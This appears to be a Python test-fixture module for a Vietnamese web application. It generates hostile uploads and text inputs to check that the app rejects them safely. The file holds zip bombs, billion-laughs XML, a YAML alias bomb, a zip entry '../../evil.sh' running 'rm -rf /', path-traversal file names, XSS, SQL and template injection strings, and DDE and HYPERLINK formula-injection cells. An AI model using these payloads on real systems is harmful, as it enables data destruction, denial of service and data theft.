"""Hostile inputs, built in code (no binary file is committed): uploads that lie about their
type, that are too large, that inflate (zip bombs), that are malformed or carry hostile
names; text that breaks databases, templates, spreadsheets and eyes.

``CHULUC_FUZZ_EXAMPLES`` (set by ``make soak``) widens the generated parts: more hypothesis
examples for the API, the whole text corpus on every field instead of the CI subset."""

from __future__ import annotations

import functools
import io
import os
import zipfile
import zlib
from dataclasses import dataclass, field

import openpyxl

from chuluc.demo.campaigns import demo_pdf

FUZZ_EXAMPLES = int(os.environ.get("CHULUC_FUZZ_EXAMPLES", "0") or 0)
SOAK = FUZZ_EXAMPLES > 0

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f"
    b"\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"

# --------------------------------------------------------------------------- XLSX by hand

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "%s</Types>"
)
_SST_CT = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "%s</Relationships>"
)
_SST_REL = (
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _sheet(rows_xml: str, *, dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return f"{_SHEET_HEAD}{dim}<sheetData>{rows_xml}</sheetData></worksheet>".encode()


def _cell(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


class _RepeatingCompressor:
    """Deflate with a full flush after every write: the state is reset, so the same input
    always gives the same output and a megabyte of spaces is compressed once, not 400
    times (the bomb is built in a second instead of half a minute)."""

    def __init__(self):
        self._zlib = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._memo: dict[int, bytes] = {}

    def compress(self, data: bytes) -> bytes:
        if id(data) in self._memo:
            return self._memo[id(data)]
        out = self._zlib.compress(data) + self._zlib.flush(zlib.Z_FULL_FLUSH)
        if data is _MEGABYTE or data is _MEGABYTE_A:
            self._memo[id(data)] = out
        return out

    def flush(self) -> bytes:
        return self._zlib.flush()


_MEGABYTE = b" " * (1 << 20)
_MEGABYTE_A = b"A" * (1 << 20)


def _write_inflating(archive, name: str, head: bytes, chunk: bytes, count: int, tail: bytes):
    with archive.open(name, "w", force_zip64=True) as out:
        out._compressor = _RepeatingCompressor()  # a test-only shortcut into zipfile
        out.write(head)
        for _ in range(count):
            out.write(chunk)
        out.write(tail)


def handmade_xlsx(
    sheet: bytes | None = None, *, shared_strings: bytes | None = None, inflate: int = 0
) -> bytes:
    """A minimal XLSX; ``inflate`` megabytes of whitespace inside the sheet XML (a zip
    bomb: about 0.1 % of that once compressed)."""
    buffer = io.BytesIO()
    sst = shared_strings is not None
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CT % (_SST_CT if sst else ""))
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS % (_SST_REL if sst else ""))
        if sst:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        body = sheet or _sheet(_row(1, ["a", "b"]))
        if inflate:
            head, tail = body.split(b"<sheetData>")
            _write_inflating(
                archive, "xl/worksheets/sheet1.xml", head, _MEGABYTE, inflate, b"<sheetData>" + tail
            )
        else:
            archive.writestr("xl/worksheets/sheet1.xml", body)
    return buffer.getvalue()


def _row(number: int, values: list[str]) -> str:
    cells = "".join(_cell(f"{chr(65 + i)}{number}", v) for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


def real_xlsx(rows: list[list[object]]) -> bytes:
    """A plain valid XLSX written by openpyxl."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "Không phải bảng tính.")
        archive.writestr("../../evil.sh", "#!/bin/sh\nrm -rf /\n")
    return buffer.getvalue()


@functools.cache
def zip_bomb_sheet() -> bytes:
    """400 MB of sheet XML in about 400 KB."""
    return handmade_xlsx(_sheet(_row(1, ["a"])), inflate=400)


@functools.cache
def zip_bomb_shared_strings() -> bytes:
    """The bomb in sharedStrings.xml, which openpyxl reads whole even in read-only mode."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CT % _SST_CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS % _SST_REL)
        archive.writestr(
            "xl/worksheets/sheet1.xml", _sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
        )
        _write_inflating(
            archive,
            "xl/sharedStrings.xml",
            b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>',
            _MEGABYTE_A,
            400,
            b"</t></si></sst>",
        )
    return buffer.getvalue()


def truncated_xlsx() -> bytes:
    whole = real_xlsx([["Mã số thuế", "Tên"], ["0100109106", "Công ty thử"]])
    return whole[: len(whole) // 2]


def corrupt_xlsx() -> bytes:
    """A zip with the right parts whose XML is garbage."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types><<<")
        archive.writestr("xl/workbook.xml", b"\x00\xff garbage \xfe")
        archive.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row")
    return buffer.getvalue()


def xml_entity_xlsx() -> bytes:
    """Billion laughs in the sheet XML (entity expansion): the XML parser must refuse it."""
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10)
    )
    sheet = (
        '<?xml version="1.0"?>' + laughs + "]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    return handmade_xlsx(sheet)


def many_rows_xlsx() -> bytes:
    """2 KB that claim the whole grid: a row numbered 1,048,576 and a dimension of XFD."""
    rows = _row(1, ["a", "b"]) + f'<row r="1048576">{_cell("A1048576", "z")}</row>'
    return handmade_xlsx(_sheet(rows, dimension="A1:XFD1048576"))


def many_columns_xlsx() -> bytes:
    cells = _cell("A1", "a") + _cell("XFD1", "z")
    return handmade_xlsx(_sheet(f'<row r="1">{cells}</row>'))


# --------------------------------------------------------------------------- upload cases

TYPE_MESSAGE = "Nội dung tệp không phải"
ENCODING_MESSAGE = "không ở mã hóa UTF-8"
SIZE_MESSAGE = "Tệp quá lớn"
BOMB_MESSAGE = "giải nén ra quá lớn"


@dataclass(frozen=True)
class UploadCase:
    """``sniffs``: what the content really is (None: nothing we accept; "legacy": 8-bit
    text); ``parse_message``: what a server that reads the spreadsheet must answer (None:
    it reads fine, the endpoint's own checks decide); ``message``: refused whatever the
    endpoint (size, bombs)."""

    id: str
    name: str
    content: bytes = b""
    sniffs: str | None = None
    parse_message: str | None = None
    message: str | None = None
    hostile_name: bool = False
    oversized: bool = False


def upload_cases() -> list[UploadCase]:
    pdf = demo_pdf("Tai lieu thu")
    return [
        # wrong type behind a right extension
        UploadCase("exe-as-pdf", "bao-cao.pdf", EXE),
        UploadCase("exe-as-xlsx", "bang-tinh.xlsx", EXE),
        UploadCase("html-as-png", "anh.png", HTML, sniffs="csv", parse_message=""),
        UploadCase("zip-as-xlsx", "bang-tinh.xlsx", plain_zip()),
        UploadCase("zip-as-pdf", "tai-lieu.pdf", plain_zip()),
        UploadCase("shell-as-csv", "du-lieu.csv", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64),
        # polyglots: the signature wins; the stored type is the one the bytes say
        UploadCase("pdf-html-polyglot", "tai-lieu.pdf", pdf + HTML, sniffs="pdf"),
        UploadCase("png-html-polyglot", "anh.png", PNG + HTML, sniffs="png"),
        # spreadsheets that hurt
        UploadCase("xlsx-zip-bomb-sheet", "bom.xlsx", b"", sniffs="xlsx", message=BOMB_MESSAGE),
        UploadCase("xlsx-zip-bomb-strings", "bom2.xlsx", b"", sniffs="xlsx", message=BOMB_MESSAGE),
        UploadCase(
            "xlsx-billion-laughs",
            "cuoi.xlsx",
            b"",
            sniffs="xlsx",
            parse_message="Không đọc được tệp XLSX",
        ),
        UploadCase("xlsx-truncated", "cut.xlsx", truncated_xlsx()),
        UploadCase(
            "xlsx-corrupt", "hong.xlsx", corrupt_xlsx(), sniffs="xlsx", parse_message="XLSX"
        ),
        UploadCase(
            "xlsx-1048576-rows",
            "dai.xlsx",
            many_rows_xlsx(),
            sniffs="xlsx",
            parse_message="vượt quá giới hạn",
        ),
        UploadCase(
            "xlsx-16384-columns",
            "rong.xlsx",
            many_columns_xlsx(),
            sniffs="xlsx",
            parse_message="quá nhiều cột",
        ),
        # CSV that is not what it seems
        UploadCase(
            "csv-windows-1258",
            "du-lieu.csv",
            "Mã số thuế,Tên\n0100109106,Công ty Đông Á\n".encode("cp1258", "replace"),
            sniffs="legacy",
        ),
        UploadCase(
            "csv-utf16", "du-lieu.csv", "Mã số thuế,Tên\n0100109106,Đông\n".encode("utf-16")
        ),
        UploadCase("csv-nul-bytes", "du-lieu.csv", b"ma_so_thue,ten\n0100\x00109106,A\x00\n"),
        UploadCase(
            "csv-bom-mixed-endings-broken-quotes",
            "du-lieu.csv",
            '\ufeffMã số thuế;Tên\r\n"0100109106;"Công ty\rthử\n"""dở dang'.encode(),
            sniffs="csv",
            parse_message="",
        ),
        UploadCase(
            "csv-formula-cells",
            "du-lieu.csv",
            '=HYPERLINK("http://x.example","bấm"),+1+1,-2,@SUM(A1)\n'.encode(),
            sniffs="csv",
            parse_message="",
        ),
        UploadCase(
            "csv-broken-utf8",
            "du-lieu.csv",
            b"ma,ten\n1,\xed\xa0\x80\xed\xb0\x80 surrogate\n" + b"x" * 5000 + b"\xc3",
            sniffs="legacy",
        ),
        UploadCase("yaml-alias-bomb", "tieu-chi.csv", b"", sniffs="csv", parse_message=""),
        # hostile names, honest content (the endpoint's own valid sample is sent)
        *[
            UploadCase(f"name-{i}", name, hostile_name=True)
            for i, name in enumerate(
                [
                    "../../../../etc/passwd.pdf",
                    "..\\..\\..\\windows\\x.xlsx",
                    "/etc/shadow.pdf",
                    "tệp\x00.exe.pdf",
                    "hoa-don-\u202efdp.exe",
                    "a" * 300 + ".pdf",
                    "\ud800\udfff-surrogates.pdf",
                    "<script>alert(1)</script>.pdf",
                    "CON.pdf",
                    " . .pdf",
                ]
            )
        ],
        UploadCase("oversized", "lon.pdf", oversized=True, message=SIZE_MESSAGE),
        UploadCase("empty", "rong.pdf", b"", message=""),
    ]


def yaml_alias_bomb() -> bytes:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    lines += ["name: *a9", "groups: [*a9]"]
    return "\n".join(lines).encode()


def content_of(case: UploadCase) -> bytes:
    return {
        "xlsx-zip-bomb-sheet": zip_bomb_sheet,
        "xlsx-zip-bomb-strings": zip_bomb_shared_strings,
        "xlsx-billion-laughs": xml_entity_xlsx,
        "yaml-alias-bomb": yaml_alias_bomb,
    }.get(case.id, lambda: case.content)()


# --------------------------------------------------------------------------- text

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@dataclass(frozen=True)
class Text:
    id: str
    value: str
    ci: bool = True  # part of the CI subset
    db: bool = False  # what the database itself may reject (checked on every backend in CI)
    dangerous: tuple[str, ...] = field(default=())  # must never appear raw in a page


TEXTS = [
    Text("nul", "tên\x00có NUL", db=True),
    Text("lone-surrogate", "tên \ud800 lẻ", db=True),
    Text("long-10k", "Đ" * 10_000, db=True),
    Text(
        "rtl-zero-width",
        "\u202eexe.fdp\u202c tên\u200b\u200c\u200d\ufeff ẩn",
    ),
    Text(
        "script",
        '<script>alert("xss")</script><img src=x onerror=alert(1)>',
        dangerous=("<script>alert", "<img src=x"),
    ),
    Text("attribute-break", '" onmouseover="alert(1)" x="', dangerous=('" onmouseover="',)),
    Text("sql", "'; DROP TABLE registry_enterprise; -- ' OR '1'='1", db=True),
    Text("template", "{{ request.user.password }} {% debug %} {{7*7}} ${7*7} #{7*7}"),
    Text("emoji", "Sản phẩm 👩‍👩‍👧‍👦🇻🇳💥 tốt", db=True),
    Text("combining", "Z̸̢̛̪̗͕̈́ͫa̵̢̛͉̮l̶̡̨̛̗g̴̛̰o̷͍̣ " * 3, ci=False),
    Text("nfd", "Công ty Hà Nội Đông Á".replace("ô", "o\u0302").replace("à", "a\u0300")),
    Text("formula", FORMULAS[0]),
    Text("formula-at", FORMULAS[3], ci=False),
    Text("control-chars", "a\x01b\x07c\x1bd\x7f", ci=False),
    Text("newlines", "dòng 1\r\ndòng 2\rdòng 3\n\n", ci=False),
    Text("whitespace-only", " \t\u00a0\u3000 ", ci=False),
    Text("numbers-like", "1e309", ci=False),
    Text("huge-number", "9" * 400, ci=False),
    Text("path", "../../../../etc/passwd", ci=False),
    Text("url", "javascript:alert(1)", ci=False, dangerous=('href="javascript:',)),
]


def texts() -> list[Text]:
    """Everything in a soak run. Otherwise the CI subset; on PostgreSQL only its payloads the
    database may treat differently (escaping and rendering were checked on SQLite)."""
    if SOAK:
        return TEXTS
    on_postgres = os.environ.get("DATABASE_URL", "").startswith(("postgres", "pgsql"))
    return [t for t in TEXTS if t.ci and (t.db or not on_postgres)]
